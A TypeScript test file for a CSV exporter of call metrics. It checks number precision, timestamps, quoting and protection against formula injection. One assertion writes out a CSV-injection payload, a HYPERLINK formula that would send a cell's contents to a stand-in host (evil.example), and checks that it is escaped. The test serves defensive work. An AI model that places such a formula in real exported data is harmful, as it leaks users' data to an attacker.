import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { Usd } from '../../../exporter/pricing/index.ts';
import { csvHeader, csvLine } from '../../../model/row-csv.ts';
import type { StoredCallMetrics } from '../../../model/rows.ts';
import { metricsRow, REFERENCE_US } from '../../support/call-rows.ts';

const stored = (more: Partial<StoredCallMetrics>): StoredCallMetrics => ({
  ...metricsRow('CA1'),
  finalized_at: REFERENCE_US,
  finalized_by: 'test',
  ...more,
});

/** What a spreadsheet makes of one line, by RFC 4180. */
function parsed(line: string): Record<string, string> {
  const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/gs)].map(
    ([, quotes, plain]) => quotes?.replaceAll('""', '"') ?? plain ?? '',
  );
  return Object.fromEntries(
    csvHeader()
      .split(',')
      .map((name, i) => [name, cells[i] ?? '']),
  );
}

describe('a call as CSV', () => {
  it('has money with all its places, instants in ISO 8601, lists and tags in one cell, and nothing where nothing is known', () => {
    const cells = parsed(
      csvLine(
        stored({
          cost_total: new Usd('0.0000000012'),
          tags: { plan: 'gold', city: 'New, York' },
          unpriced: ['tts:unknown', 'llm:a/b'],
          sentiment_avg: -0.25,
          ended_at: -123_456,
        }),
      ),
    );
    assert.equal(cells.cost_total, '0.0000000012');
    assert.equal(cells.started_at, '2026-01-01T00:00:00.000001Z');
    assert.equal(cells.ended_at, '1969-12-31T23:59:59.876544Z');
    assert.equal(cells.unpriced, 'tts:unknown; llm:a/b');
    assert.deepEqual(JSON.parse(cells.tags ?? ''), { plan: 'gold', city: 'New, York' });
    assert.equal(cells.outcome, '');
    // A number is not a text that a spreadsheet takes for a formula.
    assert.equal(cells.sentiment_avg, '-0.25');
  });

  it('has no text that a spreadsheet takes for a formula, and loses nothing of any text', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '', 'x'),
        fc.string({ unit: 'grapheme' }),
        (begin, rest) => {
          const text = begin + rest;
          const { agent_name = '' } = parsed(csvLine(stored({ agent_name: text })));
          assert.doesNotMatch(agent_name, /^[=+\-@\t\r\n]/);
          assert.equal(agent_name.replace(/^'(?=[=+\-@\t\r\n])/, ''), text);
        },
      ),
    );
    assert.equal(
      parsed(csvLine(stored({ agent_name: '=HYPERLINK("https://evil.example?"&A1)' }))).agent_name,
      `'=HYPERLINK("https://evil.example?"&A1)`,
    );
  });
});
